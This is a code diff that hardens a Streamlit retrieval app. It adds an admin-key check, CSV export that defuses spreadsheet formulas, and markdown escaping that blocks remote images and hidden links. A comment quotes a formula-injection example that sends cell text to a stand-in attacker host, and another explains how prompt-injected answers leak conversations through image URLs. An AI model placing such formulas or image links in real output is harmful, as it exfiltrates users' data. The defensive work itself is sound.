@@ -8,7 +8,7 @@ from __future__ import annotations
 
 import calendar
 import datetime as dt
-import html
+import hmac
 import json
 import logging
 import re
@@ -288,7 +288,7 @@ def show_ingest_report(report: Any) -> None:
     """A one-line summary of an IngestReport, its failures as warnings and a table of every source."""
     st.success(ingest_summary(report))
     for failure in report.failures:
-        st.warning(f"{failure.source}: {failure.reason}")
+        st.warning(f"{md_text(failure.source)}: {md_text(failure.reason)}")
     st.dataframe(report_table(report.outcomes), hide_index=True, width="stretch")
 
 
@@ -319,9 +319,63 @@ def text_block(body_html: str) -> None:
     st.html(f'<div style="white-space:pre-wrap;{_PASSAGE_STYLE}">{body_html}</div>')
 
 
+def admin_unlocked(key: str, action: str) -> bool:
+    """Whether this page may `action`: always with no RAG_ADMIN_API_KEY set (the app is the admin's, on
+    loopback); otherwise once the admin key is typed into the password field `key`."""
+    admin_key = workbench().settings.admin_api_key
+    if not admin_key:
+        st.caption(f"No `RAG_ADMIN_API_KEY` is set, so whoever uses this app may {action}; set it to require "
+                   "the admin key here.")
+        return True
+    given = st.text_input("Admin key (RAG_ADMIN_API_KEY)", type="password", key=key)
+    if given and not hmac.compare_digest(given.encode(), admin_key.encode()):
+        st.error("That is not the admin key.", icon=":material/key_off:")
+    return bool(given) and hmac.compare_digest(given.encode(), admin_key.encode())
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula: a document titled
+# =HYPERLINK("https://evil.example/?"&A2, "open") in a downloaded CSV sends its neighbours' text away on a click.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_text(rows: Sequence[dict[str, Any]]) -> str:
+    """Rows as CSV text for a download; a text cell a spreadsheet would run as a formula starts with a quote."""
+    import pandas as pd
+
+    safe = [{k: "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v for k, v in row.items()}
+            for row in rows]
+    return pd.DataFrame(safe).to_csv(index=False)
+
+
+# ----- markdown from stored text -----
+# Titles, paths, URLs and answers come from documents, crawled pages and other API callers. st.markdown
+# renders no HTML, but it does render markdown: an image loads a remote URL as soon as the page shows
+# (a tracking pixel, or a prompt-injected answer leaking the conversation in the URL), and a link can
+# hide its target behind any text. Such text is escaped to plain characters; answers keep their
+# formatting and links, and their images become links that load nothing.
+_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()<>!|~:$&^])")
+# What makes a heading, a list or a rule at the start of a line: its marker (the '.' of "12.") gets the escape.
+_MD_BLOCK_START = re.compile(r"^(\d*)([#+=.-])")
+_IMAGE = re.compile(r"!\[")
+
+
+def md_text(value: Any) -> str:
+    """`value` as markdown that shows exactly its characters, on one line: every character markdown or
+    Streamlit gives a meaning (emphasis, code, links, images, lists, headings, tables, :icons:, $math$) escaped."""
+    return _MD_BLOCK_START.sub(r"\1\\\2", _MD_SPECIAL.sub(r"\\\1", " ".join(str(value or "").split())))
+
+
+def answer_markdown(text: str) -> str:
+    """An answer or message for st.markdown: formatting and links kept, images shown as links (nothing loads)."""
+    return _IMAGE.sub("&#33;[", text or "")
+
+
 def source_label(path: str, page: int | None = None) -> str:
-    """A path or URL as markdown (URLs are links), with its page."""
-    shown = f"[{path}]({path})" if path.startswith(("http://", "https://")) else f"`{path}`"
+    """A path or URL as markdown (URLs are links showing their whole address), with its page."""
+    if path.startswith(("http://", "https://")) and not any(c.isspace() or c in "<>" for c in path):
+        shown = f"[{md_text(path)}](<{path}>)"
+    else:
+        shown = md_text(path)
     return shown + (f" · page {page}" if page is not None else "")
 
 
@@ -338,7 +392,7 @@ def sources_panel(citations: Sequence[dict[str, Any]], answer: str, expanded: bo
             cols = st.columns([1, 4])
             cols[0].progress(max(0.0, min(1.0, similarity)), text=f"[{n}] {similarity * 100:.1f}%")
             title = cited.title or ""
-            cols[1].markdown(f"**{html.escape(title)}** " + source_label(cited.path or "", cited.page)
+            cols[1].markdown(f"**{md_text(title)}** " + source_label(cited.path or "", cited.page)
                              if title else source_label(cited.path or "", cited.page))
             passage = cited.text or ""
             spans = cited_spans(answer, n, passage)
